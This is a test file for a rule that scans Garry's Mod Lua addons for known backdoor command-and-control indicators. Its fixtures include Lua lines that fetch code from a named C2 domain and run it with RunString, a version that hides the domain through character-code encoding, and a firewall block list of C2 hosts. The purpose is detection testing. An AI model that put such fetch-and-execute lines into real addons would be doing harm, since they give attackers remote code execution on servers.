// Valid and invalid cases of the `ioc_match` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './ioc_match.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('ioc_match', () => {
  it('known C2 domain', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'http.Fetch("https://kvac.cz/f.php?key=abc", print)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('short family fingerprint, as written', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local gblk = {}\nRunString(gblk[1])',
    });
    expect(findings.map((f) => f.line)).toEqual([1, 2]);
    expect(findings[0]!.pattern).toContain('gblk');
  });
  it('the fingerprint in another case', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local GBLK = {}\nprint(GBLK[1])',
    });
    expect(findings).toEqual([]);
  });
  it('C2 domain decoded at run time', () => {
    const host = [...'KVAC.cz'].map((c) => c.charCodeAt(0)).join(', ');
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", RunString)`,
    });
    expect(findings.map((f) => f.pattern)).toContain('encoded IOC kvac.cz');
  });
  it('decoded text without an indicator', () => {
    const host = [...'example.invalid'].map((c) => c.charCodeAt(0)).join(', ');
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", print)`,
    });
    expect(findings).toEqual([]);
  });
  it('unrelated domain', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'http.Fetch("https://example.invalid/v.txt", print)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("known C2 hosts in an HTTP firewall's block list", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_guard.lua': [
        'Guard = { Blocked = { "kvac.cz", "omega-project.cz" } }',
        'local realFetch = http.Fetch',
        'function http.Fetch(url, ...)',
        ' local host = string.match(url or "", "^%a+://([^/:]+)") or ""',
        ' for _, b in ipairs(Guard.Blocked) do if host == b then return end end',
        ' return realFetch(url, ...)',
        'end',
      ].join('\n'),
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
